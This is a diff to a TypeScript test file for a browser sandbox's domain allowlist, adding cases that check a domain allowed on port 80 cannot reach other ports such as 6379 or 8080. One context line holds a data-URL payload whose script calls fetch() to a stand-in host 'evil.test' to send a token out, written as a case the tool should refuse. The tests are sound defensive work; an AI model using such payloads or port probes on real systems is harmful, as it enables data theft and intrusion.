@@ -178,6 +178,10 @@ const CASES: Case[] = [
     ...blockedPage('allowed-name-private-address', 'ip-literal', { host: 'localhost' }, ['proxy']),
     allowedDomains: ['allowed.test', 'localhost'],
   },
+  // A name listed with its port reaches no other port of the same host (issue 21, finding 9).
+  { ...blockedPage('port-not-listed-subresource', 'probe', { u: 'http://allowed.test:6379/port' }), allowedDomains: ['allowed.test:80'] },
+  { ...blockedPage('port-not-listed-navigation', 'navigate-to', { u: 'http://allowed.test:8080/port' }), allowedDomains: ['allowed.test:80'] },
+  { ...refusedByNavigateTool('port-not-listed-navigate-tool', (t) => `http://allowed.test:6379/model?t=${t}`), allowedDomains: ['allowed.test:80'] },
   refusedByNavigateTool('data-url-navigate-tool', (t) => `data:text/html,<script>fetch("http://evil.test/data?t=${t}")</script>`),
   {
     name: 'data-url-top-level-from-page',
